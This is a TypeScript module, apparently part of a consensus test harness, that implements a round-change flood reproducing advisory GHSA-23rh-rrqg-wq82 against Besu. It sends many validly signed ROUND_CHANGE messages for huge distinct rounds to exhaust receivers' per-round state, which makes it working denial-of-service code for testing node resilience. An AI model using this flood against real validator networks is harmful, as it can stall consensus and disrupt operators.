/**
 * A round-change flood (the GHSA-23rh-rrqg-wq82 attack on Besu): after each of its own messages the
 * node sends FLOOD_PER_SEND validly signed ROUND_CHANGEs for the current height and distinct huge
 * rounds, walking FLOOD_ROUNDS (1000 to 100000 in steps of 1000, then the largest round the wire
 * allows) over successive sends. A receiver that kept state per round would grow without bound.
 */
import { encodeMessage, MessageCode, signPayload } from '../../node/consensus/qbft/messages.ts';
import { istanbul, type Behaviour, type ByzantineKit } from './kit.ts';

export const FLOOD_PER_SEND = 8;
export const FLOOD_ROUNDS: readonly number[] = [...Array.from({ length: 100 }, (_, i) => 1000 * (i + 1)), 0x7fffffff];

export function floodRoundChange(kit: ByzantineKit, sequence: number, round: number): Uint8Array {
  const signed = signPayload({ kind: 'roundChange', sequence, round }, kit.privateKey);
  return encodeMessage({ kind: 'roundChange', signed, prepares: [] }, kit.layout);
}

export const roundChangeFlood: Behaviour = {
  plan(kit, out) {
    const sent = [istanbul(out.code, out.data)];
    if (!out.own || !out.roundId) return sent;
    const start = kit.turn('round-change-flood') * FLOOD_PER_SEND;
    for (let i = 0; i < FLOOD_PER_SEND; i++) {
      sent.push(istanbul(MessageCode.ROUND_CHANGE, floodRoundChange(kit, out.roundId.sequence, FLOOD_ROUNDS[(start + i) % FLOOD_ROUNDS.length])));
      kit.act('round-change-flood:sent');
    }
    return sent;
  },
};
